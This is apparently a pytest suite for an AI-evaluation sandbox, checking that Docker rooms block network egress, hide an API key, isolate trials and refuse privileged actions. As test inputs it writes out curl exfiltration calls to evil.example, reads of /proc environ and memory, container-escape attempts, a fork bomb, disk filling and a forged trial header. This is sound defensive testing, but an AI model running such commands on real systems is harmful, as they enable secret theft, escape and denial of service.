"""What a hostile program reaches from inside a room: nothing but its own socket."""

import asyncio
import json
import secrets
import socket
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import TypeVar

import pytest

from skilleval.domain.policy import Limits
from skilleval.domain.trial import CommandResult
from skilleval.execution.probes import INSPECT, leaks_in
from skilleval.execution.sandboxes.docker import DockerSandboxes, Slot
from skilleval.execution.sandboxes.docker.room import DockerSandbox
from skilleval.gateway import Gateway, GatewayConfig
from tests import builders_docker
from tests.builders_gateway import Provider, serving
from tests.builders_launchers import WAYS, Way, stored_of

pytestmark = list(builders_docker.needs_docker)
T = TypeVar("T")
KEY = f"sk-real-{secrets.token_hex(16)}"
MODEL = "m-1"


@pytest.fixture(scope="module", params=[pytest.param(way, id=way.name, marks=way.marks) for way in WAYS])
def gateway(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    way: Way = request.param
    with serving(Provider()) as provider:
        config = GatewayConfig(
            upstream=provider.url, models=(MODEL,), log_folder=str(tmp_path_factory.mktemp("log"))
        )
        with Gateway(config, key=KEY, slots=3, launcher=way.make()) as gateway:
            yield gateway


@pytest.fixture(scope="module")
def rooms(gateway: Gateway) -> Iterator[DockerSandboxes]:
    slots = [Slot(number, source) for number, source in enumerate(gateway.sources)]
    provider = DockerSandboxes(
        builders_docker.engine(), builders_docker.plain_image(), slots=slots, doors=gateway, spares=False
    )
    yield provider
    provider.close()


def inside(
    rooms: DockerSandboxes,
    body: Callable[[DockerSandbox], Awaitable[T]],
    trial: str = "t",
    memory_mb: int = 512,
) -> T:
    async def use() -> T:
        async with rooms.open(trial, Limits(memory_mb=memory_mb)) as room:
            return await body(room)

    return asyncio.run(use())


def shell(rooms: DockerSandboxes, script: str, trial: str = "t") -> CommandResult:
    return inside(rooms, lambda room: room.run(["bash", "-c", script], timeout_s=30), trial=trial)


def python(rooms: DockerSandboxes, script: str, trial: str = "t") -> CommandResult:
    return inside(rooms, lambda room: room.run(["python3", "-c", script], timeout_s=30), trial=trial)


def test_the_inspection_finds_nothing(rooms: DockerSandboxes) -> None:
    """No device but loopback, no route, no name, no address, no other socket, no rights, no secret."""
    result = python(rooms, INSPECT.read_text())
    seen = json.loads(result.stdout)

    assert seen["devices"] == ["lo"]
    assert seen["sockets"] == ["/run/skilleval/model.sock"]
    assert leaks_in(seen, secrets=(KEY,)) == ()


def test_a_service_of_the_host_is_unreachable(rooms: DockerSandboxes) -> None:
    """A server that listens on all of the host's addresses, the bridge's too, answers to no room."""
    with socket.create_server(("0.0.0.0", 0)) as server:
        port = server.getsockname()[1]
        addresses = {"127.0.0.1", "172.17.0.1", "10.0.2.2", *socket.gethostbyname_ex(socket.gethostname())[2]}
        script = "; ".join(
            f"(echo > /dev/tcp/{one}/{port}) 2>/dev/null && echo reached {one}" for one in addresses
        )
        result = shell(rooms, script)

    assert "reached" not in result.stdout


def test_the_key_is_nowhere(rooms: DockerSandboxes, gateway: Gateway) -> None:
    """Not in the room's files or processes, its or the gateway's inspect output, image layers, or logs."""
    api = builders_docker.engine().api

    async def body(room: DockerSandbox) -> tuple[str, str]:
        places = "/etc /home /opt /root /run /tmp /usr/local /var /work /proc/[0-9]*/environ"
        search = ["bash", "-c", f"grep -arlsF -f - {places}"]
        found = await room.run(search, timeout_s=60, stdin=KEY.encode())
        return found.stdout, json.dumps(api.inspect_container(room.room.container))

    processes, inspected = inside(rooms, body)
    image = json.dumps(api.inspect_image(builders_docker.plain_image()))  # type: ignore[no-untyped-call]
    history = json.dumps(api.history(builders_docker.plain_image()))  # type: ignore[no-untyped-call]
    logs = "".join(file.read_text() for file in Path(gateway._config.log_folder).glob("*"))

    assert processes == ""
    assert all(KEY not in text for text in (inspected, stored_of(gateway), image, history, logs))


@pytest.mark.parametrize(
    "script",
    [
        "curl -sS -m 5 -o /dev/null -w '%{http_connect}%{http_code}' https://evil.example/",
        "curl -sS -m 5 -o /dev/null -w '%{http_connect}%{http_code}' http://evil.example/?stolen=1",
        "curl -sS -m 5 -o /dev/null -w '%{http_connect}%{http_code}' -x http://127.0.0.1:8787 http://172.17.0.1/",
    ],
)
def test_the_way_out_is_refused_and_remembered(rooms: DockerSandboxes, gateway: Gateway, script: str) -> None:
    """Through the proxy everything but the model is refused; the attempt is in the trial's account."""
    trial = f"out-{hash(script)}"
    result = shell(rooms, script, trial)

    assert "403" in result.stdout
    assert len(gateway.account(trial).refused) == 1


def test_without_the_proxy_there_is_no_way_at_all(rooms: DockerSandboxes) -> None:
    """A program that ignores the proxy finds no network."""
    result = shell(
        rooms,
        "curl -sS -m 5 --noproxy '*' http://1.1.1.1/; echo; curl -sS -m 5 --noproxy '*' http://example.com/",
    )

    assert result.exit_code != 0
    assert result.stdout.strip() == ""


def test_another_trials_socket_is_not_there(rooms: DockerSandboxes) -> None:
    """Two rooms at once: each sees one socket, its own folder read-only, and none of the other's."""

    async def both() -> tuple[str, str]:
        async with rooms.open("one", Limits()) as one, rooms.open("two", Limits()) as two:
            find = [
                "bash",
                "-c",
                "find / -xdev -type s 2>/dev/null; find /run/skilleval; touch /run/skilleval/x",
            ]
            return (await one.run(find, timeout_s=30)).stdout, (await two.run(find, timeout_s=30)).stdout

    first, second = asyncio.run(both())

    assert first == second
    assert set(first.split()) == {"/run/skilleval", "/run/skilleval/model.sock"}


def test_a_room_cannot_speak_for_another_trial(rooms: DockerSandboxes, gateway: Gateway) -> None:
    """A header that names another trial changes nothing: the socket says whose the call is."""
    body = json.dumps({"model": MODEL, "max_tokens": 1, "messages": []})
    shell(
        rooms,
        "curl -s http://127.0.0.1:8787/v1/messages -H 'x-skilleval-trial: victim' "
        f"-H 'anthropic-version: v' -H 'content-type: application/json' -d '{body}'",
        "thief",
    )

    assert gateway.account("victim").answered == 0
    assert gateway.account("thief").answered == 1


@pytest.mark.parametrize(
    "script",
    [
        "mount -t tmpfs x /mnt",
        "unshare -r true",
        "chroot /proc/1/root true",
        "kill -9 7",
        "cat /proc/1/environ",
        "cat /proc/7/mem",
        "echo x > /etc/passwd",
        "echo x > /opt/skilleval/keep.py",
        "echo x > /proc/sys/kernel/hostname",
        "mknod /tmp/disk b 8 0",
        "ls /var/run/docker.sock",
        "su -c true",
        "chown root /work",
        "dmesg",
    ],
)
def test_what_needs_a_right_fails(rooms: DockerSandboxes, script: str) -> None:
    """Mounts, namespaces, the keeper's process, the read-only root, devices, the engine: all refused."""
    assert shell(rooms, script).exit_code != 0


def test_a_fork_bomb_stays_inside(rooms: DockerSandboxes) -> None:
    """It meets the limit on processes, and is gone with its command."""

    async def body(room: DockerSandbox) -> tuple[CommandResult, CommandResult]:
        bomb = await room.run(["bash", "-c", "b() { b | b & }; b; sleep 2"], timeout_s=3)
        return bomb, await room.run(["bash", "-c", "ps -u agent -o pid= | wc -l"], timeout_s=20)

    _, after = inside(rooms, body)

    assert int(after.stdout) < 10


def test_filling_a_folder_stops_at_its_size(rooms: DockerSandboxes) -> None:
    """Work folder, HOME and /tmp are bounded; nothing of it lands on the host's disk."""

    async def body(room: DockerSandbox) -> list[CommandResult]:
        fill = "head -c 1G /dev/zero > {}/big; status=$?; rm -f {}/big; exit $status"
        folders = ("/work", "/home/agent", "/tmp")
        return [await room.run(["bash", "-c", fill.format(one, one)], timeout_s=60) for one in folders]

    results = inside(rooms, body, memory_mb=1024)

    assert all(result.exit_code != 0 for result in results)
